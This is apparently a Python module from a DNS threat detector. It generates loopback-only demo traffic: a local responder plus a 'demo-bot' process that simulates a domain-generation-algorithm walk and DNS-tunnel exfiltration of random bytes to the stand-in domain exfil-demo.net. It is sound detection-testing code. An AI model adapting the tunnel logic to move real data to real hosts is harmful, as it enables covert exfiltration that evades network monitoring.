"""Sample malicious DNS for the live demo, on loopback only.

`detector demo` on a live host captures whatever DNS the host makes, which may
be nothing interesting. So the demo also starts a tiny responder on
127.0.0.1 (an ephemeral port, captured with ``--ports 53,PORT``) and a child
process named ``demo-bot`` that, once the probes are attached:

* walks a random-character DGA list (60 names, NXDOMAIN each), then
* sends 12 KB out in base32 labels under ``exfil-demo.net`` with TXT answers
  coming back (a tunnel),

so the alerts name a real process: ``process.name: demo-bot`` with its pid.
No packet leaves the host.

    python -m detector.demo_traffic PORT     # the bot (the demo starts it)
"""

from __future__ import annotations

import base64
import random
import socket
import sys
import threading
import time

from detector.capture.pcapwrite import dns_query, dns_response, txt_rdata

TUNNEL_DOMAIN = "exfil-demo.net"
BOT_NAME = b"demo-bot"


class Responder:
    """Answers every query on 127.0.0.1:PORT: TXT data under the tunnel domain,
    NXDOMAIN for anything else."""

    def __init__(self) -> None:
        self.sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self.sock.bind(("127.0.0.1", 0))
        self.sock.settimeout(0.2)
        self.port = self.sock.getsockname()[1]
        self.answered = 0
        self._stop = threading.Event()
        self._thread = threading.Thread(target=self._run, name="demo-responder", daemon=True)

    def start(self) -> "Responder":
        self._thread.start()
        return self

    def stop(self) -> None:
        self._stop.set()
        self._thread.join(2)
        self.sock.close()

    def _run(self) -> None:
        from detector.dns.wire import decode

        rnd = random.Random(7)
        while not self._stop.is_set():
            try:
                data, peer = self.sock.recvfrom(4096)
            except (TimeoutError, OSError):
                continue
            try:
                ev = decode(data, 0.0, "udp", 4, peer[0], peer[1], "127.0.0.1", self.port)
                name, qtype = ev.questions[0].name.rstrip("."), ev.questions[0].qtype
            except Exception:  # noqa: BLE001 - not our bot: ignore the datagram
                continue
            if name.endswith(TUNNEL_DOMAIN):
                reply = base64.b64encode(bytes(rnd.randrange(256) for _ in range(90)))
                msg = dns_response(ev.id, name, qtype, [(16, txt_rdata(reply))], 0)
            else:
                msg = dns_response(ev.id, name, qtype, [], 3)
            try:
                self.sock.sendto(msg, peer)
                self.answered += 1
            except OSError:
                continue


def _set_comm(name: bytes) -> None:
    try:
        import ctypes

        ctypes.CDLL(None).prctl(15, name, 0, 0, 0)  # PR_SET_NAME
    except Exception:  # noqa: BLE001 - cosmetic only
        pass


def bot(port: int, seed: int = 20261122) -> int:
    """Send the DGA walk and the tunnel session to 127.0.0.1:PORT; return queries sent."""
    _set_comm(BOT_NAME)
    rnd = random.Random(seed)
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.settimeout(0.5)
    sent = 0

    def ask(qid: int, name: str, qtype: int) -> None:
        nonlocal sent
        s.sendto(dns_query(qid, name, qtype), ("127.0.0.1", port))
        sent += 1
        try:
            s.recv(4096)
        except (TimeoutError, OSError):
            pass

    tlds = ["com", "net", "org", "info", "biz", "ru"]
    for i in range(60):
        label = "".join(rnd.choice("abcdefghijklmnopqrstuvwxyz0123456789") for _ in range(rnd.randint(10, 18)))
        ask(1000 + i, f"{label}.{rnd.choice(tlds)}", 1)
        time.sleep(0.03)
    secret = bytes(rnd.randrange(256) for _ in range(12000))
    for i in range(0, len(secret), 60):
        chunk = base64.b32encode(secret[i:i + 60]).decode().rstrip("=").lower()
        labels = ".".join(chunk[j:j + 50] for j in range(0, len(chunk), 50))
        ask(2000 + i // 60, f"{labels}.s{i // 60}.t.{TUNNEL_DOMAIN}", 16)
        time.sleep(0.02)
    s.close()
    return sent


if __name__ == "__main__":
    args = sys.argv[1:]
    wait = args[:1] == ["--wait"]  # started early, goes on a line on stdin (the sensor may not exec later)
    if wait:
        args = args[1:]
    if len(args) != 1 or not args[0].isdigit():
        print("usage: python -m detector.demo_traffic [--wait] PORT", file=sys.stderr)
        sys.exit(2)
    if wait and not sys.stdin.readline():
        sys.exit(0)  # the demo ended before the probes were armed
    print(f"demo-bot: sent {bot(int(args[0]))} queries", file=sys.stderr)
